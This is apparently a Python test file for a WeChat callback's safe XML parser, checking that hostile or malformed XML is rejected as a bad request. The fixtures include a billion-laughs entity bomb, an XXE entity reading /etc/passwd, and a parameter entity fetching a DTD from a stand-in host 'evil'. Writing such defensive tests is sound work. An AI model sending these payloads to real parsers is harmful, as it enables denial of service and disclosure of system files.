"""Hostile XML is refused as bad_request, quickly, and genuine callback XML parses."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.callback_errors import CallbackError
from channels.sandbox.follower import Follower
from channels.wechat.callback import OACallback
from channels.xmlsafe import MAX_DEPTH, parse_fields, parse_xml, xml_clean

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<xml><Content>&lol3;</Content></xml>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""
XXE_PARAM = b"""<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>
<xml/>"""
BARE_DOCTYPE = b"<!DOCTYPE xml><xml><a>1</a></xml>"

HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "xxe": XXE,
    "xxe_parameter": XXE_PARAM,
    "doctype": BARE_DOCTYPE,
    "deep": b"<xml>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</xml>",
    "wide": b"<xml>" + b"<a>1</a>" * 5000 + b"</xml>",
    "unclosed": b"<xml><Content>hi</xml>",
    "not_xml": b"success",
    "empty": b"",
    "wrong_root": b"<root><a>1</a></root>",
    "bad_utf8": b"<xml><a>\xff\xfe</a></xml>",
    "nul": b"<xml><a>\x00</a></xml>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_bad_request(name: str) -> None:
    with pytest.raises(CallbackError) as err:
        parse_xml(HOSTILE[name])
    assert err.value.kind == "bad_request" and err.value.http_status == 400


def test_depth_limit_is_generous_for_real_payloads() -> None:
    nested = "<xml>" + "<a>" * (MAX_DEPTH - 1) + "x" + "</a>" * (MAX_DEPTH - 1) + "</xml>"
    parse_xml(nested)
    with pytest.raises(CallbackError):
        parse_xml("<xml>" + "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH + "</xml>")


def test_leaf_fields_keep_text_verbatim_and_skip_nested_blocks() -> None:
    _, fields = parse_fields(
        "<xml><Content><![CDATA[  两端空格 ]]></Content><Info><a>1</a></Info><Empty/></xml>"
    )
    assert fields == {"Content": "  两端空格 ", "Empty": ""}


def test_hostile_xml_through_the_oa_callback_is_bad_request() -> None:
    cb = OACallback("tok", None, "wx")
    follower = Follower("http://x", "m", "tok", None, "wx", "plain", clock=lambda: 1e9)
    query, _ = follower.build_request("<xml/>")
    for body in (BILLION_LAUGHS, XXE, HOSTILE["deep"]):
        with pytest.raises(CallbackError) as err:
            cb.open_post(query, body, 1e9)
        assert err.value.kind == "bad_request"


def test_xml_clean_drops_forbidden_characters() -> None:
    assert xml_clean("a\x00b\x1fc\td\n") == "abc\td\n"


@given(st.binary(max_size=300))
def test_arbitrary_bytes_never_escape_as_other_errors(data: bytes) -> None:
    try:
        parse_xml(data)
    except CallbackError as exc:
        assert exc.kind == "bad_request"
